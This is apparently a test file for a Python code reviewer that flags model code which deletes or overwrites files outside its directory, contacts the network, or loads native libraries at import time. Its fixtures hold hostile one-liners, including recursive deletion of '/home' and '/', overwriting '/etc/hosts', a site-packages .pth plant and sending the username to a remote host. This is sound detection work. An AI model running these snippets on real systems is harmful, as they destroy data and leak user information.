import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { reviewPython } from '#handler/review/review-python.js';

const said = (source: string, wanted: string): string[] =>
  reviewPython(`import glob, os, shutil, socket, sys, requests, urllib.request\nfrom pathlib import Path\n${source}`)
    .filter(({ kind }) => kind === wanted)
    .map(({ message }) => message);
const changes = (path: string): string[] => [`changes files outside the model directory while it is imported: ${path}`];

for (const [source, path] of [
  ['shutil.rmtree("/home")', 'shutil.rmtree'],
  ['shutil.rmtree(os.path.expanduser("~"))', 'shutil.rmtree'],
  ['from shutil import rmtree as r\nr("/var/lib", ignore_errors=True)', 'shutil.rmtree'],
  ['def f():\n    shutil.rmtree("/data")\nf()', 'shutil.rmtree'],
  ['os.remove("/etc/hosts")', 'os.remove'],
  ['for f in glob.glob("/srv/*"):\n    os.remove(f)', 'os.remove'],
  ['for d, _, fs in os.walk("/"):\n    for f in fs:\n        os.unlink(os.path.join(d, f))', 'os.unlink'],
  ['os.chmod("/usr/bin/x", 0o4755)', 'os.chmod'],
  ['os.symlink("/opt/x", "x")', 'os.symlink'],
  ['shutil.copy("x.txt", "/usr/bin/x")', 'shutil.copy'],
  ['shutil.move("/etc/hosts", "x")', 'shutil.move'],
  ['open("/usr/lib/x.py", "w").write("x")', 'open'],
  ['open("/usr/lib/x.py", mode="a+")', 'open'],
  ['with open("../../x", "wb") as f:\n    f.write(b"x")', 'open'],
  ['open(os.environ["HOME"] + "/x", "w")', 'open'],
  ['import site\nopen(site.getsitepackages()[0] + "/x.pth", "w")', 'open'],
  ['import io\no = io.open\no("/opt/x", "x")', 'io.open'],
  ['os.open("/opt/x", os.O_WRONLY | os.O_CREAT)', 'os.open'],
  ['import tarfile\ntarfile.open("x.tar").extractall("/")', 'tarfile.open().extractall'],
] as const) {
  test(`a file outside is changed while it is imported: ${source}`, () => {
    assert.equal(said(source, 'attack'), changes(path));
  });
}

test('paths are changed by their methods', () => {
  for (const source of ['Path("/etc/hosts").unlink()', '(Path.home() / "x").write_text("x")'])
    assert.is(said(source, 'attack').length, 1, source);
});

for (const source of [
  'open("/etc/hosts").read()',
  'open("/etc/hosts", "rb").read()',
  'open("x", "w")',
  'open("/dev/null", "w")',
  'open(os.devnull, "w")',
  'open(os.path.join(os.path.dirname(__file__), "x"), "w")',
  'def f():\n    shutil.rmtree("/data")',
  'import tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)',
  'os.remove("x")',
  'shutil.copy("/opt/x", "x")',
  '"/a".replace("a", "b")',
  'print("/a", "w")',
]) {
  test(`no file outside is changed while it is imported: ${source}`, () => {
    assert.equal(said(source, 'attack'), []);
  });
}

for (const [source, message] of [
  ['requests.post("http://x/", data=1)', 'reaches for the network while it is imported: requests.post'],
  [
    's = socket.socket()\ns.connect(("1.2.3.4", 1))',
    'reaches for the network while it is imported: socket.socket().connect',
  ],
  [
    'socket.create_connection(("1.2.3.4", 1))',
    'reaches for the network while it is imported: socket.create_connection',
  ],
  ['socket.gethostbyname(n + ".x")', 'reaches for the network while it is imported: socket.gethostbyname'],
  [
    'import getpass\nrequests.get("http://x/?" + getpass.getuser())',
    'sends something while it is imported: requests.get',
  ],
  ['urllib.request.urlopen("http://x", b"y")', 'sends something while it is imported: urllib.request.urlopen'],
] as const) {
  test(`what is sent while it is imported is an attack: ${source}`, () => {
    assert.equal(said(source, 'attack'), [message]);
  });
}

test('a download while it is imported is a risk, and what stays on the machine is not', () => {
  const source = 'urllib.request.urlretrieve("https://x/m", "m")';
  assert.equal(said(source, 'shell'), ['downloads something while it is imported: urllib.request.urlretrieve']);
  assert.equal(said(source, 'attack'), []);
  for (const other of [
    'requests.post("http://localhost:8080/x", data=1)',
    'def f():\n    requests.post("http://x/", data=1)',
    'socket.gethostbyname(socket.gethostname())',
    'h = socket.gethostname()',
    's = requests.Session()',
  ])
    assert.equal([...said(other, 'attack'), ...said(other, 'shell')], [], other);
});

for (const [source, path] of [
  ['import ctypes\nctypes.CDLL("./x.so")', 'ctypes.CDLL'],
  ['import ctypes\ndef f():\n    ctypes.cdll.LoadLibrary(os.path.join(d, "x"))', 'ctypes.cdll.LoadLibrary'],
  ['from cffi import FFI\nffi = FFI()\nffi.dlopen("./x.so")', 'ffi.dlopen'],
  ['import torch\ntorch.ops.load_library("x.bin")', 'torch.ops.load_library'],
  ['from torch.utils.cpp_extension import load\nload(name="x", sources=["x.cpp"])', 'torch.utils.cpp_extension.load'],
  ['import sqlite3\nc = sqlite3.connect("x")\nc.load_extension("./x")', 'sqlite3.connect().load_extension'],
] as const) {
  test(`native code that is no library of the system is named: ${path}`, () => {
    assert.equal(
      said(source, 'native').map((message) => message.replace(/: .*\./, ': .')),
      [`loads native code: .${path.split('.').at(-1)}`],
    );
  });
}

test('libraries of the system are for a reviewer', () => {
  for (const name of ['None', '"libgomp.so.1"', '"kernel32.dll"', 'ctypes.util.find_library("c")'])
    assert.equal(said(`import ctypes, ctypes.util\nctypes.CDLL(${name})`, 'native'), []);
});

test.run();
